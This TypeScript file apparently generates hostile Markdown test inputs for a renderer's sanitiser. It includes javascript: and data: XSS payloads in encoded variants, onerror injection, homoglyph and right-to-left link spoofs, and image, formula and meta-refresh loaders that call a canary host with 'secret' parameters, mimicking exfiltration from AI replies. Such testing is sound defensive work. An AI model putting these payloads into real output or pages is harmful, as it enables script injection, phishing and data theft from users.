const contexts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
];

/** Addresses that must become no link: other schemes, and ways to write them. */
const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:null/b',
  'file:///etc/passwd',
  'filesystem:https://a.test/x',
  'chrome-extension://abc/sidepanel.html',
  'moz-extension://abc/sidepanel.html',
  'chrome://settings',
  'about:config',
  'view-source:https://a.test',
  'intent://a.test#Intent;end',
];

/** Links whose words say another place than where they lead. */
export function spoofs(canary: string): string[] {
  const host = canary.replace('http://', '');
  return [
    `[https://bank.test](${canary}/link)`,
    `[bank.test](${canary}/link)`,
    `[www.bank.test/login](${canary}/link)`,
    `[a](http://bank.test@${host}/link)`,
    `[a](http://bank.test:secret@${host}/link)`,
    `[bank](https://xn--bnk-5cd.test/)`,
    '[bank](https://bаnk.test/)',
    '[bаnk.test](https://bаnk.test/)',
    `[moc.knab\u202e//:sptth](${canary}/link)`,
    `[\u2066bank.test\u2069](${canary}/link)`,
    `[bank\u200b.test](${canary}/link)`,
    `[x](${canary}/${'a'.repeat(4096)})`,
    `[x](${canary}/link "https://bank.test")`,
    `[![https://bank.test](${canary}/picture.png)](${canary}/link)`,
    `<${canary}/auto>`,
    `${canary}/bare`,
    `[x][r]\n\n[r]: ${canary}/reference`,
    '[boss@bank.test](mailto:thief@evil.test?body=secret)',
    `[x](${canary}/link#:~:text=bank.test)`,
    `note[^s]\n\n[^s]: [bank.test](${canary}/link)`,
  ];
}

/** Pictures, in every way that Markdown has for them, and formulas that would load or run something. */
function loaders(canary: string): string[] {
  return [
    `![x](${canary}/picture?q=secret)`,
    `![x](<${canary}/picture>)`,
    `![x][p]\n\n[p]: ${canary}/picture`,
    `![p]\n\n[p]: ${canary}/picture`,
    `- ![x](${canary}/picture)`,
    `> ![x](${canary}/picture "title")`,
    `| ![x](${canary}/picture) |\n|---|\n| ![x](${canary}/picture) |`,
    `# ![x](${canary}/picture)`,
    `**![x](${canary}/picture)**`,
    `![" onerror="alert(1)](${canary}/picture)`,
    `$\\includegraphics{${canary}/picture}$`,
    `$$\\href{javascript:alert(1)}{x}$$`,
    `$$\\htmlStyle{background:url(${canary}/style)}{x}$$`,
    `\\(\\url{${canary}/url}\\)`,
    `\`\`\`html\n<img src=${canary}/code>\n\`\`\``,
    `<meta http-equiv=refresh content='0;url=${canary}/refresh'><base href='${canary}/'>`,
  ];
}

/** Everything that a hostile reply may hold: the elements in four places each, schemes, spoofs and pictures. */
export function hostileMarkdown(canary: string, elements: readonly string[]): string[] {
  return [
    ...elements.flatMap((element) => contexts.map((place) => place(element))),
    ...schemes.flatMap((address) => [`[x](${address}) ![y](${address})`, `<${address}>`]),
    ...spoofs(canary),
    ...loaders(canary),
  ];
}
